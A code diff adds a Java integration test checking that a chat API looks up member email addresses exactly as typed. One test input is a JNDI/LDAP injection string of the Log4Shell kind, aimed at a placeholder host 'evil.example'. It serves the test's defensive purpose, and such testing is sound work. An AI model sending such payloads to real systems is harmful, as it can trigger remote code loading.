@@ -119,6 +119,21 @@ class BadInputIntegrationTests extends IntegrationTestSupport {
 	}
 
 	@Test
+	void aMemberIsLookedUpExactlyAsTypedWhateverItsCharacters() {
+		User alice = AUTH.newUser("alice");
+		User tagged = AUTH.newUser("bob", "+carrier@example.test");
+		String braces = "${jndi:ldap://evil.example/a}@example.test";
+
+		Reply unknown = post("/api/chats", alice.id(), Map.of("members", List.of(braces)));
+		Reply found = post("/api/chats", alice.id(), Map.of("members", List.of(tagged.email())));
+
+		assertProblem(unknown, 404);
+		assertThat(AUTH.wasLookedUp(braces)).isTrue();
+		assertThat(found.status()).as(found.body()).isEqualTo(201);
+		assertThat(found.json().path("chat").path("members").findValuesAsString("id")).contains(tagged.id());
+	}
+
+	@Test
 	void requestsTomcatRejectsGetAProblemDocumentNotAnHtmlPage() throws Exception {
 		User alice = AUTH.newUser("alice");
 		String chatId = createChat(alice, null, AUTH.newUser("bob")).path("id").asString();
